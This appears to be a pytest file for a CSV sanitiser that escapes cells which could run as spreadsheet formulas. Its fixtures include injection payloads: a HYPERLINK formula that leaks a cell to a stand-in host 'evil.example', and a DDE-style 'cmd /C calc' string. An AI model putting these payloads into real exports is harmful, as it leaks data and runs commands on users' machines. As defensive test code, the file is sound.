"""Spreadsheet formula injection (calls.csv_cells): text that could run as a formula is marked
as text; numbers, E.164 numbers included, stay as they are."""

from __future__ import annotations

import pytest

from calls.csv_cells import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-1+2",
        "+1+2",
        "-",
        "+",
        "+ ",
        "\tbefore a formula",
        "\r=1",
        "=",
        "-2-3",
        "+44 20 7946 0958 ext. 2",
    ],
)
def test_it_marks_what_could_run_as_a_formula(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "+14155551234",
        "+44 20 7946 0958",
        "-42",
        "42",
        "",
        "Alex Wong",
        "A=B",
        " =1+1",  # a leading space: every spreadsheet reads it as text
        "<script>alert(1)</script>",
        "2025-03-04T09:12:00-05:00",
    ],
)
def test_it_leaves_text_and_numbers_alone(text):
    assert safe_cell(text) == text


def test_it_writes_values_as_text():
    assert safe_row([None, 120, -5, "=1"]) == ["", "120", "-5", "'=1"]
